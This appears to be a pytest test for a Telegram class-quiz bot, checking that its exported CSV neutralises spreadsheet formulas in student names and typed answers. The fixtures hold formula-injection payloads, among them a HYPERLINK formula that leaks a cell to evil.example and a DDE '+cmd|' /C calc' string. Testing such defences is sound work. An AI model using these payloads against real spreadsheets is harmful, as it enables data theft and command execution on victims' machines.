"""The class CSV opens in a spreadsheet: names and typed answers that look like formulas stay text."""

from __future__ import annotations

import csv
import io

from fake_telegram import user
from telegram_harness import CLASS, TEACHER, TEACHER_ID, set_up_class, tg  # noqa: F401 - the fixture

GROUP = CLASS["id"]
MALLORY = user(666, '=HYPERLINK("http://evil.example/?leak="&A2,"Click")')
EVE = user(667, "@SUM(1+1)")


async def next_typed_question(tg):
    """/next, and the typed question it brings (with ForceReply; its live count comes after it)."""
    mark = tg.fake.mark()
    tg.fake.group_message(CLASS, TEACHER, "/next")
    [question] = await tg.fake.wait_for("sendMessage", chat_id=GROUP, since=mark,
                                        where=lambda c: "force_reply" in (c.params.get("reply_markup") or {}))
    return question


async def test_formula_like_cells_are_neutralised(tg):
    set_up_class(tg.fake)
    tg.fake.private_message(TEACHER, "/start")
    await tg.fake.wait_for("sendMessage", chat_id=TEACHER_ID, count=2)
    mark = tg.fake.mark()
    tg.fake.group_message(CLASS, TEACHER, "/classquiz tg-test 30")
    [poll] = await tg.fake.wait_for("sendPoll", chat_id=GROUP, since=mark)
    tg.fake.poll_answer(MALLORY, poll, [0])
    await tg.fake.wait_idle()
    mark = tg.fake.mark()
    tg.fake.group_message(CLASS, TEACHER, "/next")
    await tg.fake.wait_for("sendPoll", chat_id=GROUP, since=mark)  # question 2: a poll
    mark = tg.fake.mark()
    tg.fake.group_message(CLASS, TEACHER, "/next")
    await tg.fake.wait_for("sendPoll", chat_id=GROUP, since=mark)  # question 3: a multi-answer poll
    typed = await next_typed_question(tg)
    assert "Reply to this message" in typed.text
    for person, text in ((MALLORY, "=1+2"), (EVE, "+cmd|' /C calc'!A0"), (TEACHER, "-2+3"), (MALLORY, "\tx")):
        tg.fake.group_message(CLASS, person, text, reply_to=tg.fake.message(typed))
    await tg.fake.wait_idle()
    mark = tg.fake.mark()
    tg.fake.group_message(CLASS, TEACHER, "/stop")
    [document] = await tg.fake.wait_for("sendDocument", chat_id=TEACHER_ID, since=mark)
    rows = list(csv.DictReader(io.StringIO(document.files["document"][1].decode("utf-8-sig"))))
    cells = {(row["name"], row["answer"]) for row in rows}
    assert ("'" + MALLORY["first_name"], "'=1+2") in cells
    assert ("'@SUM(1+1)", "'+cmd|' /C calc'!A0") in cells
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
